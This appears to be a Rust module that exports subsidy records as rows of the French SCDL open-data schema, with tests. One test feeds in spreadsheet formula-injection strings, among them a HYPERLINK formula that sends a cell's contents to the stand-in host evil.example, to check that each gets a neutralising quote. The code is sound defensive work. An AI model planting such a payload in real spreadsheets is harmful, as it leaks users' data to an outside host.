//! Open data: a grant as a row of the SCDL "subventions" 2.1.1 file (the French standard that
//! décret 2017-779 requires for subsidies), field by field in the schema's order and formats.

use chrono::NaiveDate;

use super::scdl::PublishedTerms;
/// The columns of the SCDL "subventions" 2.1.1 schema, in its order (the import reads the same).
pub use super::scdl::FIELDS as SCDL_COLUMNS;
use super::spreadsheet::neutralise;

/// What the file says of one grant.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GrantRecord {
    pub attributor_name: String,
    pub attributor_siret: String,
    pub decided_on: NaiveDate,
    pub convention_signed_on: Option<NaiveDate>,
    pub decision_reference: Option<String>,
    pub beneficiary_name: String,
    pub beneficiary_siret: String,
    pub beneficiary_rna: Option<String>,
    pub purpose: String,
    pub granted_cents: i64,
    /// Dates of the payments made, and how many payments are requested or made.
    pub paid_on: Vec<NaiveDate>,
    pub payments: i64,
    pub scheme_name: String,
    /// An imported grant's payment and notification terms, as its file gave them.
    pub published: Option<PublishedTerms>,
}

/// A decimal amount in euros with a point: `60000.00`.
pub fn euros_with_point(cents: i64) -> String {
    let sign = if cents < 0 { "-" } else { "" };
    let cents = cents.unsigned_abs();
    format!("{sign}{}.{:02}", cents / 100, cents % 100)
}

impl GrantRecord {
    /// The row, in [`SCDL_COLUMNS`] order.
    ///
    /// Choices where the schema leaves the service to decide: `dateConvention` is the signed
    /// convention's date, or the decision's while none is recorded; `conditionsVersement` is
    /// `unique` for at most one payment, `échelonné` for more; `datesPeriodeVersement` is the
    /// payment's date, the period from the first to the last payment, or the convention's date
    /// while nothing is paid; `notificationUE` is `non` (de minimis aid is exempt from
    /// notification); `pourcentageSubvention` is `1.00` (one beneficiary per grant). A grant
    /// imported from an SCDL file has no payments in Essor: its `nature`, `conditionsVersement`,
    /// `datesPeriodeVersement`, `idRAE`, `notificationUE` and `pourcentageSubvention` are the
    /// file's, so a year exported, imported elsewhere and exported again reads the same.
    ///
    /// No cell is one a spreadsheet runs as a formula: every cell but `dateConvention`, `montant`
    /// and `notificationUE` (which Essor writes itself) goes through [`neutralise`]. The texts
    /// accepted since Essor refuses formula-looking input never start so and are written as
    /// entered; one stored before gets a leading `'`, cut to the standard's maximum length where
    /// it has one (`objet` and `conditionsVersement` 256 characters, `idRAE` 5).
    pub fn to_row(&self) -> [String; 16] {
        let convention = self.convention_signed_on.unwrap_or(self.decided_on);
        let mut paid = self.paid_on.clone();
        paid.sort();
        let period = match (paid.first(), paid.last()) {
            (Some(first), Some(last)) if first != last => format!("{first}/{last}"),
            (Some(only), _) => only.to_string(),
            _ => convention.to_string(),
        };
        let one_line = |s: &str| s.split_whitespace().collect::<Vec<_>>().join(" ");
        let text = |s: &str| neutralise(s).into_owned();
        let bounded = |s: &str, max: usize| neutralise(s).chars().take(max).collect::<String>();
        let terms = match &self.published {
            Some(terms) => terms.clone(),
            None => PublishedTerms {
                nature: "aide en numéraire".into(),
                payment_conditions: if self.payments > 1 { "échelonné" } else { "unique" }.into(),
                payment_period: period,
                rae_id: None,
                eu_notified: false,
                subsidy_share: "1.00".into(),
            },
        };
        [
            text(&one_line(&self.attributor_name)),
            text(&self.attributor_siret),
            convention.to_string(),
            self.decision_reference.as_deref().map(|r| text(&one_line(r))).unwrap_or_default(),
            text(&one_line(&self.beneficiary_name)),
            text(&self.beneficiary_siret),
            text(self.beneficiary_rna.as_deref().unwrap_or_default()),
            bounded(&one_line(&self.purpose), 256),
            euros_with_point(self.granted_cents),
            text(&terms.nature),
            bounded(&terms.payment_conditions, 256),
            text(&terms.payment_period),
            bounded(terms.rae_id.as_deref().unwrap_or_default(), 5),
            if terms.eu_notified { "oui" } else { "non" }.into(),
            text(&terms.subsidy_share),
            text(&one_line(&self.scheme_name)),
        ]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn date(s: &str) -> NaiveDate {
        s.parse().unwrap()
    }

    fn record() -> GrantRecord {
        GrantRecord {
            attributor_name: "Métropole Rouen Normandie".into(),
            attributor_siret: "20002341400010".into(),
            decided_on: date("2026-03-12"),
            convention_signed_on: None,
            decision_reference: Some("DEL-2026-114".into()),
            beneficiary_name: "Les Ateliers\nSolidaires".into(),
            beneficiary_siret: "73282932000074".into(),
            beneficiary_rna: Some("W763001234".into()),
            purpose: "Rénovation de l'atelier".into(),
            granted_cents: 60_000_00,
            paid_on: vec![],
            payments: 0,
            scheme_name: "Dynamique Immobilier ESS".into(),
            published: None,
        }
    }

    #[test]
    fn a_grant_reads_as_the_standard_says() {
        let row = record().to_row();
        assert_eq!(row[2], "2026-03-12", "no convention yet: the decision's date");
        assert_eq!(row[4], "Les Ateliers Solidaires", "one line");
        assert_eq!(row[8], "60000.00");
        assert_eq!(
            (row[9].as_str(), row[10].as_str(), row[11].as_str()),
            ("aide en numéraire", "unique", "2026-03-12")
        );
        assert_eq!((row[13].as_str(), row[14].as_str()), ("non", "1.00"));
    }

    #[test]
    fn payments_give_the_period_and_the_conditions() {
        let mut r = record();
        r.convention_signed_on = Some(date("2026-04-01"));
        r.paid_on = vec![date("2026-09-30"), date("2026-05-02")];
        r.payments = 2;
        let row = r.to_row();
        assert_eq!(
            (row[2].as_str(), row[10].as_str(), row[11].as_str()),
            ("2026-04-01", "échelonné", "2026-05-02/2026-09-30")
        );
        r.paid_on = vec![date("2026-05-02")];
        r.payments = 1;
        assert_eq!(r.to_row()[11], "2026-05-02");
        assert_eq!(euros_with_point(5), "0.05");
        assert_eq!(euros_with_point(12_345_678_90), "12345678.90");
    }

    #[test]
    fn an_imported_grant_republishes_its_terms() {
        let mut r = record();
        r.paid_on = vec![];
        r.published = Some(PublishedTerms {
            nature: "aide en nature".into(),
            payment_conditions: "versement en trois fois".into(),
            payment_period: "2019-01-15/2020-06-30".into(),
            rae_id: Some("AB12".into()),
            eu_notified: true,
            subsidy_share: "0.45".into(),
        });
        let row = r.to_row();
        assert_eq!(
            row[9..15].to_vec(),
            ["aide en nature", "versement en trois fois", "2019-01-15/2020-06-30", "AB12", "oui", "0.45"]
        );
    }

    #[test]
    fn texts_stored_before_that_a_spreadsheet_would_run_get_a_leading_quote() {
        let mut r = record();
        r.attributor_name = "-Rouen".into();
        r.decision_reference = Some("=1+2".into());
        r.beneficiary_name = "  =HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")".into();
        r.purpose = format!("+{}", "x".repeat(300));
        r.scheme_name = "@cmd".into();
        r.published = Some(PublishedTerms {
            nature: "aide en nature".into(),
            payment_conditions: format!("={}", "y".repeat(255)),
            payment_period: "2019-01-15/2020-06-30".into(),
            rae_id: Some("+1234".into()),
            eu_notified: false,
            subsidy_share: "0.45".into(),
        });
        let row = r.to_row();
        assert_eq!(row[0], "'-Rouen");
        assert_eq!(row[3], "'=1+2");
        // One line first (its spaces trimmed), then the quote.
        assert_eq!(row[4], "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")");
        // Within the standard's lengths: the quote takes the place of the last character.
        assert_eq!(row[7], format!("'+{}", "x".repeat(254)));
        assert_eq!(row[10], format!("'={}", "y".repeat(254)));
        assert_eq!(row[12], "'+123");
        assert_eq!(row[15], "'@cmd");
        // What Essor writes itself, and the texts it accepts today, are as they were.
        assert_eq!((row[2].as_str(), row[8].as_str(), row[13].as_str()), ("2026-03-12", "60000.00", "non"));
        assert_eq!(
            record().to_row()[3..8].to_vec(),
            [
                "DEL-2026-114",
                "Les Ateliers Solidaires",
                "73282932000074",
                "W763001234",
                "Rénovation de l'atelier"
            ]
        );
        for cell in row {
            assert!(!crate::domain::spreadsheet::reads_as_formula(&cell), "{cell}");
        }
    }
}
